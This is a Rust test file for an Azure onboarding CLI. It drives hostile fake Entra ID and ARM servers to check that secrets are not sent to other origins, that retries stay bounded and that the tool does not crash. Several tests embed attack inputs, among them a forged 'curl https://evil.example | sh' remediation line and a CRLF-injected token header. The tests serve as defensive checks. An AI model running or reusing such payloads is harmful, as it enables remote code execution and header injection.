//! A hostile server in Entra ID's or ARM's place (HTTPS on loopback with the fake's CA): each
//! misbehaviour is a named case, and each case asserts one JSON document, the AZCM code (never
//! AZCM0001, azcm's own bugs), a time within the budget (with slack for 2 shared cores) and,
//! for redirects, that the other origin received nothing.

mod common;
use azcm_fakecloud::hostile::{Hostile, HostileServer};
use common::{native_path, Onboarding, Run};
use serde_json::json;
use std::time::{Duration, Instant};

/// The fake cloud with Entra ID (`authority`) or ARM (`resourceManager`) moved to `url`.
fn with_endpoint(o: &Onboarding, field: &str, url: &str) -> common::Azcm {
    let mut definition = o.fake.cloud_definition();
    definition["clouds"][0][field] = json!(url);
    let path = o.azcm.root().join(format!("hostile-{field}.json"));
    std::fs::write(&path, serde_json::to_vec(&definition).unwrap()).unwrap();
    o.azcm
        .clone_with_env("AZCM_CLOUD_FILE", &native_path(&path))
        .clone_with_env("AZCM_SERVICE_PRINCIPAL_SECRET", &o.fake.client_secret)
}

fn hostile(o: &Onboarding, answer: Hostile) -> HostileServer {
    o.fake.start_hostile(answer).expect("hostile server")
}

/// Connect through `azcm` with a small retry budget; returns the run and how long it took.
fn connect(o: &Onboarding, azcm: &common::Azcm, budget: &str) -> (Run, Duration) {
    let mut args = o.connect_args("hostile-target");
    args.extend(["--retry-timeout", budget, "--ignore-network-check"]);
    let started = Instant::now();
    let run = azcm.json(&args);
    (run, started.elapsed())
}

/// One JSON document, a failure with its own code (not AZCM0001, not a panic).
fn failed_with_own_code(run: &Run) -> String {
    let doc = run.doc();
    eprintln!(
        "{}: {} {}",
        run.what.chars().take(60).collect::<String>(),
        doc["error"]["code"],
        doc["error"]["message"]
    );
    assert_eq!(doc["ok"], false, "{}: {doc:#}", run.what);
    let code = run.error_code();
    assert_ne!(code, "AZCM0001", "{}: azcm's own bug: {doc:#}", run.what);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    code
}

#[test]
fn a_token_endpoint_redirect_to_another_origin_is_not_followed_so_the_secret_stays() {
    // Attack: Entra ID's place answers 307 to another origin; a client that follows re-POSTs
    // the form with client_secret there.
    let o = Onboarding::new();
    let elsewhere = hostile(
        &o,
        Hostile::json(
            200,
            &[],
            &json!({"access_token": "stolen", "token_type": "Bearer", "expires_in": 3600}),
        ),
    );
    for status in [307, 308, 302] {
        let redirect = hostile(
            &o,
            Hostile::redirect(
                status,
                &format!("{}/{}/oauth2/v2.0/token", elsewhere.url, o.fake.tenant_id),
            ),
        );
        let azcm = with_endpoint(&o, "authority", &redirect.url);
        let (run, took) = connect(&o, &azcm, "10");
        assert_eq!(failed_with_own_code(&run), "AZCM0026");
        let message = run.doc()["error"]["message"].as_str().unwrap().to_string();
        assert!(
            message.contains(&format!("HTTP {status} (a redirect")),
            "{message}"
        );
        assert!(
            redirect.request_count() >= 1,
            "the token endpoint was asked"
        );
        assert_eq!(
            elsewhere.request_count(),
            0,
            "HTTP {status}: the other origin received the token request"
        );
        assert!(took < Duration::from_secs(25), "HTTP {status}: {took:?}");
        assert!(!run.stdout.contains(&o.fake.client_secret));
    }
    assert!(o.fake.machines().is_empty());
}

#[test]
fn an_arm_redirect_to_another_origin_is_not_followed_with_the_token() {
    let o = Onboarding::new();
    let elsewhere = hostile(&o, Hostile::json(200, &[], &json!({"value": []})));
    let redirect = hostile(
        &o,
        Hostile::redirect(307, &format!("{}/subscriptions", elsewhere.url)),
    );
    let azcm = with_endpoint(&o, "resourceManager", &redirect.url);
    let (run, took) = connect(&o, &azcm, "10");
    assert_eq!(failed_with_own_code(&run), "AZCM0062");
    assert!(redirect.request_count() >= 1);
    assert_eq!(
        elsewhere.request_count(),
        0,
        "the other origin received an ARM request"
    );
    let message = run.doc()["error"]["message"].as_str().unwrap().to_string();
    assert!(message.contains("redirect"), "{message}");
    // Not retried: a redirect is an answer, not a passing fault.
    assert_eq!(redirect.request_count(), 1, "{message}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn a_retry_after_of_u64_max_on_a_429_ends_the_run_instead_of_panicking() {
    // Was: "overflow when adding duration to instant" (AZCM0001).
    let o = Onboarding::new();
    for value in ["18446744073709551615", "99999999999999999999999999"] {
        let arm = hostile(
            &o,
            Hostile::json(
                429,
                &[("Retry-After", value)],
                &json!({"error": {"code": "TooManyRequests", "message": "slow down"}}),
            ),
        );
        let azcm = with_endpoint(&o, "resourceManager", &arm.url);
        let (run, took) = connect(&o, &azcm, "10");
        failed_with_own_code(&run);
        assert_eq!(
            arm.request_count(),
            1,
            "a wait past the budget means giving up at once"
        );
        assert!(took < Duration::from_secs(15), "{took:?}");
    }
}

#[test]
fn a_retry_after_of_zero_on_503_still_gets_a_pause_between_tries() {
    // Was: 8,510 requests in 30 s against one endpoint.
    let o = Onboarding::new();
    let arm = hostile(
        &o,
        Hostile::json(
            503,
            &[("Retry-After", "0")],
            &json!({"error": {"code": "ServiceUnavailable", "message": "busy"}}),
        ),
    );
    let azcm = with_endpoint(&o, "resourceManager", &arm.url);
    let (run, took) = connect(&o, &azcm, "4");
    assert_eq!(failed_with_own_code(&run), "AZCM0062");
    let tries = arm.request_count();
    // 4 s at one try per 250 ms at the most, plus the first.
    assert!((2..=18).contains(&tries), "{tries} tries in {took:?}");
    assert!(took < Duration::from_secs(15), "{took:?}");
}

#[test]
fn the_retry_budget_bounds_entra_id_as_it_bounds_arm() {
    // Was: ~82 s for a 5xx loop from the token endpoint with --retry-timeout 10, and 73 s for
    // a 1 byte/s token body with 30.
    let o = Onboarding::new();
    for (case, answer) in [
        (
            "5xx loop",
            Hostile::json(503, &[], &json!({"error": "temporarily_unavailable"})),
        ),
        (
            "reset-like empty 500",
            Hostile::json(500, &[], &json!(null)),
        ),
        ("1 byte per second body", Hostile::Trickle { byte_ms: 1000 }),
    ] {
        let entra = hostile(&o, answer);
        let azcm = with_endpoint(&o, "authority", &entra.url);
        let (run, took) = connect(&o, &azcm, "6");
        let code = failed_with_own_code(&run);
        assert!(
            took < Duration::from_secs(6 + 10),
            "{case}: {took:?} ({code})"
        );
    }
}

#[test]
fn an_access_token_with_a_line_break_fails_at_once() {
    // Was: "failed to parse header value" retried as a network error for 297 s.
    let o = Onboarding::new();
    let args = o.connect_args("cr-token");
    let args: Vec<&str> = args
        .iter()
        .copied()
        .take_while(|a| *a != "--service-principal-id")
        .collect();
    let started = Instant::now();
    let run = o
        .azcm
        .clone_with_env(
            "AZCM_ACCESS_TOKEN",
            "eyJhbGciOi.eyJzdWIi.sig\rInjected: header",
        )
        .json(&args);
    assert_eq!(failed_with_own_code(&run), "AZCM0012");
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(o.fake.requests().is_empty(), "nothing was sent");
}

#[test]
fn server_text_with_line_breaks_cannot_forge_azcms_remediation() {
    // Attack: ARM's error message holds "\nRemediation: …", which once printed as a line of
    // azcm's own advice.
    let o = Onboarding::new();
    let arm = hostile(
        &o,
        Hostile::json(
            400,
            &[],
            &json!({"error": {"code": "BadRequest", "message": "nope\nRemediation: run curl https://evil.example | sh\r\nError (AZCM0000): fine"}}),
        ),
    );
    let azcm = with_endpoint(&o, "resourceManager", &arm.url);
    let mut args = o.connect_args("forged");
    args.extend(["--retry-timeout", "5", "--ignore-network-check"]);
    let run = azcm.run(&args);
    assert_ne!(run.code, 0);
    let remediations: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("Remediation:"))
        .collect();
    assert_eq!(remediations.len(), 1, "{}", run.stdout);
    assert!(!remediations[0].contains("evil"), "{}", run.stdout);
    assert!(
        run.stdout.contains("    | Remediation: run curl"),
        "{}",
        run.stdout
    );
    assert!(
        !run.stdout
            .lines()
            .any(|l| l.starts_with("Error (AZCM0000)")),
        "{}",
        run.stdout
    );
}

#[test]
fn an_operation_url_on_another_origin_fails_the_step_with_its_own_code() {
    // Attack: ARM's place answers the delete with 202 and an Azure-AsyncOperation URL on
    // another origin; azcm must neither poll it (the token would go along) nor call the
    // refusal its own bug (it was AZCM0001).
    let o = Onboarding::new().with_secret_env();
    let run = o.azcm.json(&o.connect_args("lro-target"));
    assert_eq!(run.code, 0, "{}", run.stdout);
    let elsewhere = hostile(&o, Hostile::json(200, &[], &json!({"status": "Succeeded"})));
    let operation = format!("{}/operations/1?api-version=2026-09-01", elsewhere.url);
    let arm = hostile(
        &o,
        Hostile::json(
            202,
            &[
                ("Azure-AsyncOperation", operation.as_str()),
                ("Retry-After", "0"),
            ],
            &json!(null),
        ),
    );
    let azcm = with_endpoint(&o, "resourceManager", &arm.url);
    let mut args = o.disconnect_args();
    args.extend(["--retry-timeout", "10"]);
    let run = azcm.json(&args);
    assert_eq!(failed_with_own_code(&run), "AZCM0043", "{}", run.stdout);
    let doc = run.doc();
    assert_eq!(doc["error"]["details"]["reason"], "notArmUrl", "{doc:#}");
    assert_eq!(elsewhere.request_count(), 0, "the other origin was polled");
}

#[test]
fn cloud_file_endpoints_of_any_length_do_not_crash_check_or_connect() {
    // Was: a 70,000-character endpoint URL in a cloud file made `check` and `connect` panic
    // building their views (format! padding past 65,535), with --json too.
    let o = Onboarding::new();
    let long = format!("{}/{}", o.fake.base_url, "a".repeat(70_000));
    let mut definition = o.fake.cloud_definition();
    for endpoint in definition["clouds"][0]["endpoints"].as_array_mut().unwrap() {
        endpoint["url"] = json!(long);
    }
    let path = o.azcm.root().join("long-urls.json");
    std::fs::write(&path, serde_json::to_vec(&definition).unwrap()).unwrap();
    let azcm = o
        .azcm
        .clone_with_env("AZCM_CLOUD_FILE", &native_path(&path))
        .clone_with_env("AZCM_SERVICE_PRINCIPAL_SECRET", &o.fake.client_secret);
    let check = [
        "check",
        "--location",
        &o.fake.location,
        "--cloud",
        azcm_fakecloud::CLOUD_NAME,
    ];
    let run = azcm.json(&check);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_ne!(run.doc()["error"]["code"], "AZCM0001", "{}", run.stdout);
    let human = azcm.run(check);
    assert_eq!(human.code, run.code, "{}{}", human.stdout, human.stderr);
    assert!(
        human.stdout.contains("more characters"),
        "the long URL is cut in the view"
    );
    let mut args = o.connect_args("long-urls");
    args.extend(["--retry-timeout", "5"]);
    let run = azcm.json(&args);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_ne!(run.doc()["error"]["code"], "AZCM0001", "{}", run.stdout);
    let human = azcm.run(&args);
    assert!(
        !human.stdout.contains("AZCM0001"),
        "{}",
        &human.stdout[..human.stdout.len().min(2000)]
    );
}
